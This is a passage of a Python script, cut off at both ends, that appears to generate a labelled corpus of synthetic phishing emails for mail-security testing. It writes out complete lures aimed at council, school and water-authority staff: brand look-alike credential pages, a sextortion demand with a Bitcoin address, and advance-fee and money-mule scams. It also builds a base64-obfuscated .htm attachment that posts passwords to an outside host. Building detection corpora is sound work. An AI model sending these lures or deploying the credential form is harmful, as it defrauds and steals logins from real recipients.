                date="2025-09-10 10:15:00 -0400", msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "MW4PR11MB")
                .replace("namprd02", "namprd11"), body=body, auth=auth, sender_hops=hops,
                dkim=[("ohiomunicipalleague.onmicrosoft.com", "selector1-ohiomunicipalleague-onmicrosoft-com")],
                extra=outlook_extra(stem, "FY2026 Budget Forecasting Workshop for Finance Directors"))
    add(stem, "phish", "phishing", "Calendar-invite lure from a look-alike of the state municipal league (new M365 tenant): "
        "Teams-styled 'Join the meeting' goes to teams-live-join.com, which asks for the organisation sign-in", raw)


def a34_voicemail_htm() -> None:
    stem = "b36-phish-voicemail-htm-attachment"
    rcpt = "jdowling@marshcreekwater.org"
    inner = (f"<html><head><title>Voice Message</title></head><body><div id=\"x\"></div><script>"
             "var e='jdowling@marshcreekwater.org';"
             f"var p='https://vm-secure-{hx(stem, 6)}.workers.dev/next.php';"
             "document.getElementById('x').innerHTML='<div style=\"font-family:Segoe UI;width:420px;margin:60px auto\">"
             "<h3>Sign in to play voicemail</h3><form method=POST action='+p+'><input name=u value='+e+'><br>"
             "<input type=password name=pw placeholder=Password><br><button>Play</button></form></div>';"
             "</script></body></html>")
    page = ("<html><head><meta charset=\"utf-8\"></head><body><script>document.write(atob('"
            + base64.b64encode(inner.encode()).decode() + "'));</script></body></html>\n")
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px">
<table width="520" style="border:1px solid #ccc" cellpadding="10"><tr><td style="background:#ff8800;color:#fff;font-weight:bold">
Voice Message Notification</td></tr>
<tr><td>You received a new voice message.<br><br>
<b>From:</b> (717) 964-2280<br><b>To:</b> jdowling@marshcreekwater.org<br><b>Length:</b> 00:00:47<br>
<b>Received:</b> Thursday, March 13, 2025 9:41 AM<br><br>
Open the attached audio file to listen to your message.</td></tr>
<tr><td style="font-size:11px;color:#888">Marsh Creek Water Authority Unified Communications</td></tr></table></body></html>
"""
    body = mixed(f"--{hx(stem, 30)}", alt(None, html, f"--{hx(stem + 'a', 30)}"),
                 attachment("text/html", "VM_0313_7179642280.htm", page.encode()))
    auth = Auth("198.252.104.37", "vps37.voicenotify.app", "voicemail@voicenotify.app", "pass",
                [("voicenotify.app", "s1", "pass")], "none", "none", "voicenotify.app")
    raw = build(stem=stem, profile="eop:marsh", rcpt=rcpt, frm="Voicemail System <voicemail@voicenotify.app>",
                subject="New Voicemail from (717) 964-2280 - 00:00:47 - Thursday, March 13, 2025",
                date="2025-03-13 09:42:30 -0400", msgid=f"<{hx(stem, 26)}@voicenotify.app>", body=body, auth=auth,
                dkim=[("voicenotify.app", "s1")])
    add(stem, "phish", "phishing", "Fake voicemail notification to water-authority staff; the .htm 'audio file' decodes "
        "an embedded sign-in form (atob) that posts the password to a workers.dev host", raw)


def a35_gdrive_share() -> None:
    stem = "b36-phish-google-drive-share-compromised-district"
    rcpt = "snguyen@brookvaleusd.org"
    fid = "1" + aln(stem + "fid", 32)
    url = f"https://drive.google.com/file/d/{fid}/view?usp=sharing_eil_se_dm&ts={hx(stem, 8)}"
    html = f"""<html lang="en"><head></head><body style="margin:0;padding:0">
<table style="width:100%;max-width:600px;margin:auto" role="presentation"><tr><td style="padding:24px;font-family:'Google Sans',Roboto,Arial,sans-serif">
<div style="font-size:14px;color:#202124"><img src="https://lh3.googleusercontent.com/a/default-user=s50-c" width="32" height="32" style="border-radius:50%;vertical-align:middle" alt="">
&nbsp;Mark Ellison (<a href="mailto:mark.ellison@kingsridgeusd.org" style="color:#1a73e8">mark.ellison@kingsridgeusd.org</a>) shared a document</div>
<div style="font-size:22px;color:#202124;padding:18px 0">Mark Ellison shared a document</div>
<div style="font-size:14px;color:#202124;padding-bottom:18px">Hi Sarah, the county office asked me to pass along the revised certificated salary schedule ahead of the 2025-26 MOU vote. Please review before Thursday.</div>
<table style="border:1px solid #dadce0;border-radius:8px;width:100%"><tr><td style="padding:12px 16px;font-size:14px;color:#202124">
<img src="https://drive-thirdparty.googleusercontent.com/32/type/application/pdf" width="20" alt="">&nbsp;2025-26 Certificated Salary Schedule - Revised.pdf</td></tr></table>
<div style="padding:24px 0"><a href="{url}" style="background:#0b57d0;color:#fff;border-radius:18px;padding:10px 24px;font-size:14px;text-decoration:none">Open</a></div>
<div style="font-size:12px;color:#5f6368">If you don't want to receive files from this person, <a href="https://drive.google.com/drive/blockuser?blockerEmail={rcpt}&amp;blockeeEmail=mark.ellison@kingsridgeusd.org&amp;usp=sharing_eib_se_dm" style="color:#1a73e8">block the sender</a> from Drive</div>
<div style="font-size:12px;color:#5f6368;padding-top:16px">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because mark.ellison@kingsridgeusd.org shared a document with you from Google Drive.</div>
</td></tr></table></body></html>
"""
    plain = (f"Mark Ellison (mark.ellison@kingsridgeusd.org) shared a document\n\nHi Sarah, the county office asked me to "
             "pass along the revised certificated salary schedule ahead of the 2025-26 MOU vote. Please review before "
             f"Thursday.\n\n2025-26 Certificated Salary Schedule - Revised.pdf\n{url}\n\nGoogle LLC, 1600 Amphitheatre "
             "Parkway, Mountain View, CA 94043, USA\n")
    mf = f"3{aln(stem + 'bn', 20)}@doclist.bounces.google.com"
    auth = Auth("209.85.220.73", "mail-sor-f73.google.com", mf, "pass", [("google.com", "20230601", "pass")], "pass",
                "reject", "google.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt,
                frm="\"Mark Ellison (via Google Drive)\" <drive-shares-dm-noreply@google.com>",
                subject="Document shared with you: \"2025-26 Certificated Salary Schedule - Revised.pdf\"",
                date="2025-05-19 12:40:05 -0700", msgid=f"<{aln(stem + 'gd', 22)}-{hx(stem, 12)}@google.com>",
                body=alt(plain, html, f"000000000000{hx(stem + 'b', 16)}"), auth=auth, dkim=[("google.com", "20230601")],
                reply_to="Mark Ellison <mark.ellison@kingsridgeusd.org>",
                extra=["X-No-Auto-Attachment: 1", "X-Notifications: GAMMA:<" + hx(stem + 'g', 20) + "@google.com>"])
    add(stem, "phish", "phishing", "Genuine Google Drive share notification (google.com passes) from a compromised "
        "neighbouring-district account; the shared 'salary schedule' PDF is a landing page to a credential site", raw)


def a36_sharepoint_compromised() -> None:
    stem = "b36-phish-sharepoint-share-compromised-village"
    rcpt = "jpatel@harlanspringsoh.gov"
    url = (f"https://oakfieldoh-my.sharepoint.com/:b:/g/personal/emarsh_oakfieldoh_gov/E{aln(stem + 'sp', 45)}"
           "?e=4%3aKq7xPq&at=9")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table cellpadding="0" cellspacing="0" style="max-width:600px;font-family:'Segoe UI',Helvetica,Arial,sans-serif;color:#242424">
<tr><td style="padding:20px 24px 10px 24px;font-size:16px">Ellen Marsh shared a file with you</td></tr>
<tr><td style="padding:0 24px 10px 24px;font-size:14px">Jay - Q2 interconnect billing for the Route 61 bulk water meter attached. Our
auditor needs the balance cleared before the 30th, please review and let me know.</td></tr>
<tr><td style="padding:10px 24px"><table style="border:1px solid #e0e0e0;border-radius:4px;width:100%"><tr>
<td style="padding:14px;font-size:14px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/20/pdf.png" width="20" alt="">
&nbsp;Oakfield Water Interconnect Invoice - Q2.pdf</td></tr></table></td></tr>
<tr><td style="padding:10px 24px 24px 24px"><a href="{url}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#616161">This link only works for the direct recipients of this message.<br>
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/microsoft_48x1.png" width="16" alt=""> Microsoft
<br>Privacy Statement</td></tr></table></body></html>
"""
    plain = (f"Ellen Marsh shared a file with you\n\nJay - Q2 interconnect billing for the Route 61 bulk water meter "
             "attached. Our auditor needs the balance cleared before the 30th, please review and let me know.\n\n"
             f"Oakfield Water Interconnect Invoice - Q2.pdf\n{url}\n\nThis link only works for the direct recipients of "
             "this message.\n\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    ip, helo, rdns, hops = m365_out(stem, "GCC02-BL0", "namprd09.prod.outlook.com", "BL0PR09MB")
    auth = Auth(ip, helo, f"no-reply@sharepointonline.com", "pass",
                [("sharepointonline.com", "selector1", "pass")], "pass", "reject", "sharepointonline.com", rdns)
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Ellen Marsh <no-reply@sharepointonline.com>",
                subject="Ellen Marsh shared \"Oakfield Water Interconnect Invoice - Q2\" with you",
                date="2025-07-22 15:03:40 +0000",
                msgid=f"<{guid(stem + 'sp')}@BL0PR09MB{num(stem, 4)}.namprd09.prod.outlook.com>",
                body=alt(plain, html, f"_{guid(stem + 'bd')}_"), auth=auth,
                dkim=[("sharepointonline.com", "selector1")], reply_to="Ellen Marsh <emarsh@oakfieldoh.gov>")
    add(stem, "phish", "phishing", "Genuine SharePoint Online share notification (passes everything) sent from a "
        "compromised neighbouring village's tenant; the shared 'invoice' PDF leads on to a credential-harvesting page", raw)


def a37_adobe_sign_abuse() -> None:
    stem = "b36-phish-adobe-sign-genuine-abuse"
    rcpt = "tyler.becker@state.co.us"
    url = f"https://secure.na4.adobesign.com/public/apiesign?pid=CBFCIBAA3AAABLblqZhC{aln(stem + 'pid', 90)}&client_id=CBJCHBCAABAA{aln(stem + 'cid', 24)}"
    html = f"""<html><body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:adobe-clean,Helvetica,Arial,sans-serif">
<tr><td style="padding:24px 32px"><img src="https://secure.na4.adobesign.com/images/email/acrobat-sign-logo.png" width="140" alt="Adobe Acrobat Sign"></td></tr>
<tr><td style="padding:0 32px;font-size:22px;color:#2c2c2c">Town of Walden Finance requests your signature on<br><b>EIAF #10642 Reimbursement Request - Q3 FY25</b></td></tr>
<tr><td style="padding:24px 32px"><a href="{url}" style="background:#1473e6;color:#fff;padding:10px 24px;border-radius:16px;text-decoration:none;font-size:15px">Review and sign</a></td></tr>
<tr><td style="padding:0 32px 24px 32px;font-size:14px;color:#4b4b4b">
<b>Message from Town of Walden Finance:</b><br>Tyler, Q3 draw request with backup invoices. The final page has a
link to our document portal for the contractor pay apps since they were too large to attach.</td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#6e6e6e;background:#fafafa">After you sign, all parties will receive
a final PDF copy by email.<br><br>Don't forward this email: If you don't want to sign, you can delegate to someone else.<br>
By proceeding, you agree that this agreement may be signed using electronic or handwritten signatures.<br><br>
Powered by Adobe Acrobat Sign</td></tr></table></td></tr></table></body></html>
"""
    mf = f"adobesign@adobesign.com"
    auth = Auth("130.248.196.58", "mail-b.na4.adobesign.com", mf, "pass", [("adobesign.com", "s1", "pass")], "pass",
                "reject", "adobesign.com", "mail-b.na4.adobesign.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Town of Walden Finance via Adobe Acrobat Sign <adobesign@adobesign.com>",
                subject="Town of Walden Finance requests your signature on EIAF #10642 Reimbursement Request - Q3 FY25",
                date="2025-10-08 16:22:51 +0000", msgid=f"<{num(stem, 10)}.{num(stem + 'a', 5)}.{num(stem + 'b', 13)}@na4prd-app-{num(stem + 'c', 2)}.adobesign.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 7)}_{num(stem + 'd', 9)}.{num(stem + 'e', 13)}"), auth=auth,
                dkim=[("adobesign.com", "s1")], reply_to="Walden Finance <walden.finance.co@gmail.com>")
    add(stem, "phish", "phishing", "Genuine Adobe Acrobat Sign request (adobesign.com passes) from an attacker account "
        "posing as a grantee town, with a Gmail reply-to; the 'agreement' points on to an external document portal", raw)


def a38_dropbox_lookalike() -> None:
    stem = "b36-phish-dropbox-lookalike-tender"
    rcpt = "helen.pryce@ashmere.gov.uk"
    url = "https://dropbox-filetransfer.com/scl/fo/ashmere/Tender-Response-GM2025?rlkey=8qwx1n3&dl=0"
    html = f"""<html><body style="background:#f7f5f2;font-family:Helvetica,Arial,sans-serif;margin:0">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px">
<table width="540" style="background:#fff;border-radius:6px" cellpadding="0" cellspacing="0">
<tr><td style="padding:28px 36px 8px 36px"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyphs/glyph_dropbox_logo.png" width="36" alt="Dropbox"></td></tr>
<tr><td style="padding:8px 36px;font-size:16px;color:#1e1919">Hi Helen,</td></tr>
<tr><td style="padding:8px 36px;font-size:16px;color:#1e1919"><b>Greenway Grounds Ltd</b> invited you to view the folder
"<b>Tender Response - Grounds Maintenance 2025-2028</b>" on Dropbox.</td></tr>
<tr><td style="padding:8px 36px;font-size:15px;color:#637282">"Helen, our full response including method statements and pricing schedule. Kind regards, Tom"</td></tr>
<tr><td style="padding:20px 36px"><a href="{url}" style="background:#0061fe;color:#fff;padding:12px 22px;border-radius:4px;text-decoration:none;font-size:15px">Go to folder</a></td></tr>
<tr><td style="padding:10px 36px 30px 36px;font-size:12px;color:#637282">Enjoy!<br>The Dropbox team</td></tr>
</table></td></tr></table></body></html>
"""
    auth = Auth("94.156.64.210", "mail.dropbox-filetransfer.com", "no-reply@dropbox-filetransfer.com", "pass",
                [("dropbox-filetransfer.com", "mail", "pass")], "none", "none", "dropbox-filetransfer.com")
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="Dropbox <no-reply@dropbox-filetransfer.com>",
                subject="Greenway Grounds Ltd shared \"Tender Response - Grounds Maintenance 2025-2028\" with you",
                date="2025-02-17 15:48:02 +0000", msgid=f"<{hx(stem, 24)}@dropbox-filetransfer.com>",
                body=alt(None, html, f"==============={num(stem, 19)}=="), auth=auth,
                dkim=[("dropbox-filetransfer.com", "mail")])
    add(stem, "phish", "phishing", "Dropbox look-alike share naming a real tender and bidder, sent to the council's "
        "procurement officer from dropbox-filetransfer.com; 'Go to folder' opens a fake sign-in page", raw)


def a39_sextortion() -> None:
    stem = "b36-phish-sextortion-home-address-pdf"
    rcpt = "ahoward@brookvaleusd.org"
    img, w, h = grey_photo(36)
    pdf = image_pdf(["Amy Howard", "2211 Sycamore Ct, Brookvale, CA 93611", ""], img, w, h, "DCTDecode",
                    (66, 420, 480, 320), "Amy", "PDFium", "20251103081102Z",
                    ["Is this your house? Read the email. You have 48 hours."])
    plain = """Amy,

I know that calling you at (559) 298-4417 or visiting 2211 Sycamore Ct would be a convenient way to reach you in
case you don't act. Is this your house? (photo attached)

I'll get to the point. Some months ago a piece of software was installed on a device you use. It recorded your screen
and your camera while you visited adult websites. I also copied your contacts - colleagues at the district, parents,
family.

I have no interest in ruining your career. Send 1950 USD in Bitcoin to the address below within 48 hours and the
files will be deleted permanently. If you don't, every contact will receive the video.

BTC: bc1qk7v3t0xw9m5r2s8yq4d6p0nl3ae2uhjz8cf5wx

Copy and paste the address - it is case sensitive. Do not reply to this email; I have a notification when it is read.
"""
    ip, helo, rdns, hops = m365_out(stem, "NAM12-MW2", "NAMP220.PROD.OUTLOOK.COM", "SA1P220MB")
    ip = f"40.92.{int(num(stem + 'q', 2)) % 60 + 20}.{int(num(stem + 'r', 3)) % 240 + 10}"
    body = mixed(outlook_boundary(stem, "004"), text(plain, "plain", "quoted-printable"),
                 attachment("application/pdf", "Amy_2211SycamoreCt.pdf", pdf))
    auth = Auth(ip, helo, "watcher.k2911@outlook.com", "pass", [("outlook.com", "selector1", "pass")], "pass", "none",
                "outlook.com", rdns)
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Howard Amy <watcher.k2911@outlook.com>",
                subject="Amy Howard 2211 Sycamore Ct", date="2025-11-03 08:11:40 +0000",
                msgid=exchange_msgid(stem, "outlook"), body=body, auth=auth, sender_hops=hops,
                dkim=[("outlook.com", "selector1")])
    add(stem, "phish", "phishing", "Sextortion to a teacher built from public records: home address, phone and a "
        "street photo in a PDF, with a $1,950 Bitcoin demand; sent from a throwaway Outlook.com account", raw)


def a40_unclaimed_funds() -> None:
    stem = "b36-phish-unclaimed-funds-fee"
    rcpt = "tlee.harlan@gmail.com"
    url = "https://ohio-unclaimedfunds.org/claim/OH-2025-7741823"
    plain = f"""OHIO UNCLAIMED FUNDS RECOVERY

Claim reference: OH-2025-7741823
Owner name: THOMAS LEE
Last known address: HARLAN SPRINGS, OH 44839
Reported by: Fifth Third Bank (dormant deposit account)
Amount held: $2,847.19

Dear Thomas Lee,

Our search of the state unclaimed funds database found the above property reported in your name. Funds held for
more than 10 years may be transferred to the state general fund.

To release the funds we must verify your identity. Please complete the secure claim form at {url}
and upload a photo of your driver's license. A one-time recovery and processing fee of $79.00 is payable by debit card
at submission; your full balance will be sent by direct deposit within 5 business days.

Claims Department
Ohio Unclaimed Funds Recovery
"""
    html = "<html><body style=\"font-family:Arial;font-size:14px\">" + "".join(
        f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n")).replace(
        htmlmod.escape(url), f'<a href="{url}">{url}</a>') + "</body></html>\n"
    auth = Auth("66.29.141.203", "mail.ohio-unclaimedfunds.org", "claims@ohio-unclaimedfunds.org", "pass",
                [("ohio-unclaimedfunds.org", "default", "pass")], "pass", "none", "ohio-unclaimedfunds.org")
    raw = build(stem=stem, profile="gmail", rcpt=rcpt, frm="Ohio Unclaimed Funds <claims@ohio-unclaimedfunds.org>",
                subject="Claim OH-2025-7741823: $2,847.19 is being held in your name",
                date="2025-03-04 12:30:17 -0500", msgid=f"<{hx(stem, 32)}@ohio-unclaimedfunds.org>",
                body=alt(plain, html, f"b1=_{aln(stem, 40)}"), auth=auth, dkim=[("ohio-unclaimedfunds.org", "default")],
                extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"])
    add(stem, "phish", "phishing", "Advance-fee unclaimed-funds scam to a resident: look-alike 'Ohio Unclaimed Funds' "
        "domain wants a driver's licence photo and a $79 'processing fee' for a $2,847 balance", raw)


def a41_k12_job_scam() -> None:
    stem = "b36-phish-k12-compromised-job-offer"
    rcpt = "ethan.cole@students.brookvaleusd.org"
    plain = """Hello Students,

Dr. Patricia Lang of the Department of Psychology has a part-time remote position available for a personal
assistant. The position pays $450 weekly and takes about 5 hours a week (errands, scheduling, purchasing supplies
for community programs). It is flexible and can be done after school.

Interested students should send their name, age, cell number and a personal email address (not school email) to
dr.patricialang.office@gmail.com for more details.

Regards,
Dr. Patricia Lang
"""
    html = gmail_html("<div>" + "</div><div><br></div><div>".join(p.replace("\n", " ") for p in plain.strip().split("\n\n")) + "</div>")
    ip, helo = gmail_out(stem)
    d = when("2025-02-25 05:47:10 -0800")
    auth = Auth(ip, helo, "plang@westhavenusd.org", "pass", [("westhavenusd.org", "google", "pass")], "pass", "none",
                "westhavenusd.org")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Patricia Lang <plang@westhavenusd.org>",
                subject="Paid Part-Time Position Available ($450 weekly)", date="2025-02-25 05:47:10 -0800",
                msgid=gmail_msgid(stem), body=alt(plain, html, f"000000000000{hx(stem + 'a', 16)}"), auth=auth,
                dkim=[("westhavenusd.org", "google")], top=gmail_extra(stem, d), to="undisclosed-recipients:;")
    add(stem, "phish", "phishing", "Employment / money-mule scam sent to students from a compromised staff account at a "
        "neighbouring school district (passes authentication), steering replies to a Gmail address", raw)


def a43_njc_pay_award() -> None:
    stem = "b36-phish-njc-pay-award-r2"
    rcpt = "daniel.okoro@ashmere.gov.uk"
    url = f"https://pub-{hx(stem, 32)}.r2.dev/ashmere/payaward.html#ZGFuaWVsLm9rb3JvQGFzaG1lcmUuZ292LnVr"
    plain = f"""Dear colleague,

Following agreement of the NJC pay award for 2025/26 (an increase of 3.2% on all pay points from 1 April 2025), your
revised salary and the arrears due will be paid in the November payroll.

Before payroll is finalised, all employees must confirm their revised pay point and bank details via the secure
staff portal. Employees who do not confirm by Friday 7 November may have their arrears deferred to the January
payroll.

Confirm your revised salary: {url}

You will need to sign in with your Ashmere network account.

HR & Payroll Services
Ashmere Borough Council
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:11pt;color:#000">
<p>Dear colleague,</p>
<p>Following agreement of the NJC pay award for 2025/26 (an increase of 3.2% on all pay points from 1 April 2025), your
revised salary and the arrears due will be paid in the November payroll.</p>
<p>Before payroll is finalised, all employees must confirm their revised pay point and bank details via the secure
staff portal. Employees who do not confirm by <b>Friday 7 November</b> may have their arrears deferred to the January
payroll.</p>
<p><a href="{url}" style="background:#4b2e83;color:#fff;padding:8px 16px;text-decoration:none">Confirm your revised salary</a></p>
<p>You will need to sign in with your Ashmere network account.</p>
<p>HR &amp; Payroll Services<br>Ashmere Borough Council</p></body></html>
"""
    auth = Auth("185.117.90.34", "mail.ashmere-hrportal.co.uk", "payroll@ashmere-hrportal.co.uk", "pass",
                [("ashmere-hrportal.co.uk", "dkim", "pass")], "pass", "none", "ashmere-hrportal.co.uk")
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="HR & Payroll Services <payroll@ashmere-hrportal.co.uk>",
                subject="NJC Pay Award 2025/26 - confirm your revised salary and arrears",
                date="2025-11-03 08:04:12 +0000", msgid=f"<{hx(stem + 'm', 30)}@ashmere-hrportal.co.uk>",
                body=alt(plain, html, f"=_{hx(stem + 'b', 32)}"), auth=auth, dkim=[("ashmere-hrportal.co.uk", "dkim")],
                to="\"All Staff\" <allstaff@ashmere.gov.uk>")
    add(stem, "phish", "phishing", "Council-staff payroll lure on the real NJC 2025/26 pay award from a look-alike HR "
        "domain; 'confirm your revised salary and bank details' goes to an r2.dev credential page", raw)


def a44_procontract_lookalike() -> None:
    stem = "b36-phish-procontract-lookalike-itt"
    rcpt = "tenders@greenwaygrounds.co.uk"
    url = "https://procontract-duenorth.co.uk/Login/Account?ReturnUrl=%2FOpportunities%2FITT_ABC_2025_114"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#333">
<table width="640" cellpadding="0" cellspacing="0" style="border:1px solid #ccc">
<tr><td style="background:#003a70;color:#fff;padding:14px;font-size:18px">ProContract</td></tr>
<tr><td style="padding:18px">
<p>Dear Supplier,</p>
<p><b>Ashmere Borough Council</b> has invited your organisation to respond to the following opportunity:</p>
<p>Title: <b>Grounds Maintenance Services 2025-2028</b><br>Reference: ABC/2025/114<br>Procedure: Open (Procurement Act 2023)<br>
Clarification deadline: 12/03/2025 12:00<br>Tender return deadline: 26/03/2025 12:00</p>
<p>To access the tender documents, log in to ProContract using your registered email account.</p>
<p><a href="{url}" style="color:#003a70;font-weight:bold">Access the opportunity</a></p>
<p>Kind regards,<br>ProContract Supplier Services<br>Proactis</p>
<p style="font-size:11px;color:#888">This is an automated email. Please do not reply.</p></td></tr></table></body></html>
"""
    auth = Auth("5.181.157.42", "mx.procontract-duenorth.co.uk", "noreply@procontract-duenorth.co.uk", "pass",
                [("procontract-duenorth.co.uk", "default", "pass")], "none", "none", "procontract-duenorth.co.uk")
    raw = build(stem=stem, profile="eop:vendor_uk", rcpt=rcpt, frm="ProContract <noreply@procontract-duenorth.co.uk>",
                subject="Invitation to Tender: ABC/2025/114 Grounds Maintenance Services - Ashmere Borough Council",
                date="2025-02-24 10:12:39 +0000", msgid=f"<{hx(stem, 30)}@procontract-duenorth.co.uk>",
                body=alt(None, html, f"--=_{hx(stem + 'b', 28)}"), auth=auth,
                dkim=[("procontract-duenorth.co.uk", "default")])
    add(stem, "phish", "phishing", "Fake ProContract invitation to tender sent to a grounds-maintenance firm from a "
        "look-alike of the Proactis portal domain; 'Access the opportunity' is a credential page", raw)


def a46_efile_served_zip() -> None:
    stem = "b36-phish-efile-served-documents-zip-link"
    rcpt = "darla.hutchins@co.kessler.tx.us"
    url = "https://efiletexas-notices.com/ServedDocuments/Download.aspx?env=98133427&t=zip"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:13px">
<table width="620" cellpadding="8" style="border:1px solid #bbb">
<tr><td style="background:#1f3864;color:#fff;font-size:16px"><b>eFileTexas.gov</b> - Service Notification</td></tr>
<tr><td>
<p>You have been electronically served documents in the following case:</p>
<table cellpadding="4" style="font-size:13px">
<tr><td><b>Envelope Number:</b></td><td>98133427</td></tr>
<tr><td><b>Case Number:</b></td><td>25-CV-0711</td></tr>
<tr><td><b>Case Style:</b></td><td>Brazos Valley Holdings, LLC v. Kessler County, Texas</td></tr>
<tr><td><b>Court:</b></td><td>216th District Court</td></tr>
<tr><td><b>Documents:</b></td><td>Plaintiff's Original Petition and Request for Disclosure</td></tr></table>
<p><a href="{url}">Download Served Documents</a> (ZIP, 2.4 MB)</p>
<p style="font-size:11px;color:#666">This is an automated notification. Please do not reply to this email.</p>
</td></tr></table></body></html>
"""
    auth = Auth("38.180.91.12", "mail.efiletexas-notices.com", "no-reply@efiletexas-notices.com", "pass",
                [("efiletexas-notices.com", "default", "pass")], "none", "none", "efiletexas-notices.com")
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="eFileTexas.gov <no-reply@efiletexas-notices.com>",
                subject="Service of Process: Envelope 98133427 - 25-CV-0711 Brazos Valley Holdings, LLC v. Kessler County",
                date="2025-08-05 16:44:02 -0500", msgid=f"<{hx(stem, 24)}@efiletexas-notices.com>",
                body=alt(None, html, f"----=_NextPart_{hx(stem, 16)}"), auth=auth,
                dkim=[("efiletexas-notices.com", "default")])
    add(stem, "phish", "malware", "Fake eFileTexas 'service of process' notice to the County Attorney's office from a "
        "look-alike domain; the link downloads a zip of 'served documents' (script loader)", raw)


def a47_thread_hijack_link() -> None:
    stem = "b36-phish-neighbour-authority-thread-hijack-link"
    rcpt = "gpruitt@marshcreekwater.org"
    url = "https://stonebridgefarmpa.com/wp-includes/docs/?file=Mutual_Aid_Agreement_Renewal.zip"
    prev = exchange_msgid(stem + "prev", "marsh")
    plain = f"""Hello,

Please review the revised agreement and let me know your thoughts before we circulate to the board.

{url}

Thanks,
Tom

From: Gary Pruitt <gpruitt@marshcreekwater.org>
Sent: Thursday, May 15, 2025 3:02 PM
To: Tom Bauer <tbauer@cvwa-pa.org>
Subject: RE: Mutual aid agreement renewal - PA WARN

Tom, our solicitor is fine with the indemnification language. Send over the clean copy when you have it and I'll
get it on the June agenda.

Gary
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]).replace(
        url, f'<a href="{url}">{url}</a>'))
    ip, helo, rdns, hops = m365_out(stem, "NAM04-DM6", "namprd04.prod.outlook.com", "DM6PR04MB")
    auth = Auth(ip, helo, "tbauer@cvwa-pa.org", "pass", [("cvwa-pa.org", "selector1", "pass")], "pass", "quarantine",
                "cvwa-pa.org", rdns)
    raw = build(stem=stem, profile="eop:marsh", rcpt=rcpt, frm="Tom Bauer <tbauer@cvwa-pa.org>",
                subject="RE: Mutual aid agreement renewal - PA WARN", date="2025-06-03 07:26:51 -0400",
                msgid=exchange_msgid(stem, "marsh").replace("CH3PR04MB", "DM6PR04MB"),
                body=alt(plain, html, outlook_boundary(stem)), auth=auth, sender_hops=hops,
                dkim=[("cvwa-pa.org", "selector1")],
                extra=outlook_extra(stem, "Mutual aid agreement renewal - PA WARN", irt=prev, refs=prev))
    add(stem, "phish", "malware", "Thread hijack from a compromised neighbouring water authority mailbox: a generic "
        "'please review' reply on an old mutual-aid thread linking to a zip on a hacked WordPress site", raw)


def a48_rfq_goods_fraud() -> None:
    stem = "b36-phish-city-impersonation-rfq-goods"
    rcpt = "sales@buckeyetechpartners.com"
    rfq = text_pdf([
        "CITY OF HARLAN SPRINGS, OHIO",
        "Department of Finance - Purchasing Division",
        "200 W. Center St., Harlan Springs, OH 44839",
        "",
        "REQUEST FOR QUOTATION   RFQ 2025-IT-041",
        "",
        "Item  Qty  Description",
        " 1     40   Dell Latitude 5550, Intel Core Ultra 7, 32GB, 1TB SSD",
        " 2     40   Dell WD22TB4 Thunderbolt docking station",
        " 3     10   HP LaserJet Enterprise M612dn",
        "",
        "Terms: Net 30 upon receipt of goods. Tax exempt (certificate on file).",
        "Delivery: City Records Annex, 3190 Industrial Pkwy, Unit C, Columbus, OH 43228",
        "",
        "Quotes due: 10/22/2025 by email to procurement@harlanspringsoh-gov.us",
        "",
        "Denise Kowalczyk, Finance Director",
    ], "RFQ 2025-IT-041", "Microsoft Word for Microsoft 365", "20251020090111-04'00'", "Denise Kowalczyk")
    plain = """Good morning,

The City of Harlan Springs is requesting a quotation for the items in the attached RFQ 2025-IT-041 (40 laptops with
docking stations and 10 printers). Please include your best pricing and availability. We would like delivery within
10 business days of the purchase order. Our standard terms are Net 30.

Please send your quote to procurement@harlanspringsoh-gov.us by Wednesday 10/22.

Thank you,

Denise Kowalczyk
Finance Director
City of Harlan Springs
200 W. Center St., Harlan Springs, OH 44839
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/pdf", "RFQ_2025-IT-041.pdf", rfq))
    ip, helo, rdns, hops = m365_out(stem, "NAM12-MW2", "namprd12.prod.outlook.com", "MW4PR12MB")
    auth = Auth(ip, helo, "procurement@harlanspringsoh-gov.us", "pass",
                [("harlanspringsohgov.onmicrosoft.com", "selector1-harlanspringsohgov-onmicrosoft-com", "pass")],
                "bestguesspass", "none", "harlanspringsoh-gov.us", rdns)
    raw = build(stem=stem, profile="eop:vendor_us", rcpt=rcpt,
                frm="Denise Kowalczyk <procurement@harlanspringsoh-gov.us>",
                subject="Request for Quotation - RFQ 2025-IT-041", date="2025-10-20 09:06:22 -0400",
